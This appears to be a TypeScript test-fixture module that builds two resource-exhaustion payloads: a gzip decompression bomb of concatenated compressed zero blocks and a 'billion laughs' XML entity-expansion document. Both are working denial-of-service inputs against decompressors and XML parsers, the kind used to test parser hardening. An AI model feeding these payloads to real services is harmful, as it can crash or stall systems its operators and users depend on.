import { gzipSync } from "node:zlib";

/** Gzip of this many megabytes of zeros. Each megabyte takes about 1 kB. */
export function gzipBomb(megabytes: number): Buffer {
  const one = gzipSync(Buffer.alloc(1_000_000));
  return Buffer.concat(Array.from({ length: megabytes }, () => one));
}

/** XML of 1 kB whose entities expand to 1,000,000,000 texts. */
export const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE shows [
  <!ENTITY lol "lol">
${Array.from({ length: 9 }, (_, level) => `  <!ENTITY lol${level + 1} "${`&lol${level || ""};`.repeat(10)}">`).join("\n")}
]>
<shows>&lol9;</shows>`;
